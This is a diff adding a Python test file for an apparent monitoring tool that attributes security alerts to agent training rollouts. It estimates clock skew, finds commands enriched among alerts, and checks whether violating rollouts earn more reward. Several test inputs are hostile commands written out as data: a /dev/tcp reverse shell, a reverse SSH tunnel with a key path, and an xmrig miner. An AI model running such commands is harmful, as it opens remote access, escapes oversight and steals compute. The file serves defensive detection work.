@@ -1,0 +1,158 @@
+"""Clocks, recurrence and reward, by numbers that can be checked by hand or by an independent computation."""
+
+from __future__ import annotations
+
+import itertools
+from fractions import Fraction
+from math import comb
+
+import numpy as np
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from ray_guard.attribution.clock import SECOND, of_ranges
+from ray_guard.attribution.prior import Reach, reach, template
+from ray_guard.attribution.recurrence import Call, benjamini_hochberg, enriched, p_value
+from ray_guard.attribution.reward import Rollout, associate
+
+
+def ranges(rows: list[tuple[int, float, float, float]]) -> tuple[np.ndarray, ...]:
+    alert, low, high, at = zip(*rows, strict=True)
+    return (
+        np.array(alert),
+        np.array([int(each * SECOND) for each in low]),
+        np.array([int(each * SECOND) for each in high]),
+        np.array([int(each * SECOND) for each in at]),
+    )
+
+
+def test_sockets_tell_the_skew_and_its_interval() -> None:
+    clock = of_ranges(*ranges([(n, 36.5 - n / 10, 37.4 + n / 10, n * 60) for n in range(8)]), sharp=True)
+    assert clock.identifiable
+    assert (clock.low_ns, clock.high_ns) == (int(36.5 * SECOND), int(37.4 * SECOND))
+    assert clock.skew_ns == pytest.approx(36.95 * SECOND)
+
+
+def test_a_few_sockets_of_the_wrong_time_do_not_move_it() -> None:
+    rows = [(n, 36.9, 37.1, n * 60) for n in range(20)] + [(20 + n, 900.0 * n, 900.0 * n + 1, n) for n in range(5)]
+    assert of_ranges(*ranges(rows), sharp=True).skew_ns == pytest.approx(37 * SECOND)
+
+
+def test_drift_is_found() -> None:
+    rows = [(n, 10 + 2e-4 * 60 * n - 0.01, 10 + 2e-4 * 60 * n + 0.01, n * 60) for n in range(200)]
+    clock = of_ranges(*ranges(rows), sharp=True)
+    assert clock.drift == pytest.approx(2e-4, rel=0.02)
+    corrected = clock.skew_ns + clock.drift * (0 - clock.reference_ns)
+    assert corrected == pytest.approx(10 * SECOND, abs=0.05 * SECOND)
+
+
+def test_what_agrees_nowhere_is_not_identifiable() -> None:
+    rows = [(n, 1000.0 * n, 1000.0 * n + 1, n) for n in range(30)]
+    assert not of_ranges(*ranges(rows), sharp=True).identifiable
+    assert not of_ranges(*ranges(rows), sharp=False).identifiable
+
+
+def test_two_offsets_that_explain_as_much_are_not_identifiable_by_text() -> None:
+    rows = [(n, offset - 1.0, offset + 1.0, n) for n in range(20) for offset in (5.0, 3605.0)]
+    assert not of_ranges(*ranges(rows), sharp=False).identifiable
+
+
+def exact(hits: int, members: dict[str, int], size: dict[str, int], drawn: dict[str, int]) -> float:
+    """The same chance by enumeration, in fractions."""
+    total = Fraction(0)
+    strata = sorted(size)
+    for counts in itertools.product(*(range(members.get(s, 0) + 1) for s in strata)):
+        if sum(counts) >= hits:
+            chance = Fraction(1)
+            for s, k in zip(strata, counts, strict=True):
+                marked = members.get(s, 0)
+                if k > drawn[s] or drawn[s] - k > size[s] - marked:
+                    chance = Fraction(0)
+                    break
+                chance *= Fraction(comb(marked, k) * comb(size[s] - marked, drawn[s] - k), comb(size[s], drawn[s]))
+            total += chance
+    return float(total)
+
+
+@given(st.data())
+@settings(max_examples=60, deadline=None)
+def test_p_values_are_those_of_enumeration(data: st.DataObject) -> None:
+    size = {s: data.draw(st.integers(1, 8)) for s in "abc"}
+    members = {s: data.draw(st.integers(0, size[s])) for s in "abc"}
+    drawn = {s: data.draw(st.integers(0, size[s])) for s in "abc"}
+    hits = data.draw(st.integers(0, 8))
+    assert p_value(hits, {s: n for s, n in members.items() if n}, size, drawn) == pytest.approx(
+        exact(hits, members, size, drawn), abs=1e-12
+    )
+
+
+def test_strata_keep_a_busy_iteration_from_passing_for_a_pattern() -> None:
+    """Everything in iteration 2 alerts, whatever its command: no command is enriched."""
+    calls = [Call(1, (("command", name, "bash"),)) for name in ("a", "b") for _ in range(50)]
+    calls += [Call(2, (("command", "a", "bash"),), alerts=1) for _ in range(50)]
+    found = enriched(calls)
+    assert [each.p_value for each in found] == [1.0]
+
+
+def test_an_enriched_pattern_comes_first_with_its_counts() -> None:
+    calls = [Call(1, (("command", "ls", "bash"),)) for _ in range(100)]
+    calls += [Call(1, (("command", "ssh -R", "bash"),), alerts=n % 2 + 1) for n in range(10)]
+    first = enriched(calls)[0]
+    assert (first.pattern, first.alerts, first.calls) == ("ssh -R", 15, 10)
+    assert first.p_value == pytest.approx(1 / comb(110, 10))
+
+
+def test_benjamini_hochberg_by_the_textbook() -> None:
+    assert benjamini_hochberg([0.01, 0.02, 0.03, 0.5]) == pytest.approx([0.04, 0.04, 0.04, 0.5])
+
+
+def test_reward_is_compared_within_groups() -> None:
+    """Easy groups are rewarded more and violate more; within each the violating ones get 0.1 more."""
+    rollouts = [
+        Rollout(group, group // 10, base + 0.1 * violating, violating=bool(violating))
+        for group in range(40)
+        for base in [0.9 if group % 2 else 0.1]
+        for violating in ([1, 1, 1, 0] if group % 2 else [1, 0, 0, 0])
+    ]
+    found = associate(rollouts)
+    assert found.difference == pytest.approx(0.1)
+    assert found.groups == 40
+    assert found.interval == pytest.approx((0.1, 0.1))
+
+
+def test_the_trend_is_of_the_share_of_violating_rollouts() -> None:
+    rollouts = [Rollout("g", step, None, violating=n < step) for step in range(5) for n in range(10)]
+    found = associate(rollouts)
+    assert found.trend == pytest.approx(0.1)
+    assert found.difference is None
+    assert found.unrewarded == 50
+
+
+def test_one_iteration_has_no_trend_and_no_group_no_difference() -> None:
+    found = associate([Rollout(None, 1, 0.5, violating=True)])
+    assert (found.trend, found.difference, found.interval) == (None, None, None)
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("ssh -fNR 2222:localhost:22 m@198.51.100.7", Reach.SUSPECT),
+        ("./xmrig -o pool:3333", Reach.SUSPECT),
+        ("bash -i >& /dev/tcp/198.51.100.7/443 0>&1", Reach.SUSPECT),
+        ("pip install numpy", Reach.NETWORK),
+        ("git clone https://example.org/x.git", Reach.NETWORK),
+        ('{"command": "ls -la src"}', Reach.SILENT),
+        ("cd src && grep -rn x .", Reach.SILENT),
+        ("python train.py", Reach.UNKNOWN),
+        ("", Reach.UNKNOWN),
+    ],
+)
+def test_what_a_command_lets_one_expect(command: str, expected: Reach) -> None:
+    assert reach(command) is expected
+
+
+def test_templates_of_repetitions_are_the_same() -> None:
+    one = template('{"command": "ssh -fNR 2222:localhost:22 u1@198.51.100.7 -i /home/a/.ssh/id"}')
+    two = template('{"command": "ssh -fNR 9021:localhost:22 mallory@198.51.100.88 -i /home/b/.ssh/id"}')
+    assert one == two == "ssh -fNR <n>:localhost:<n> <user>@<host> -i <path>"
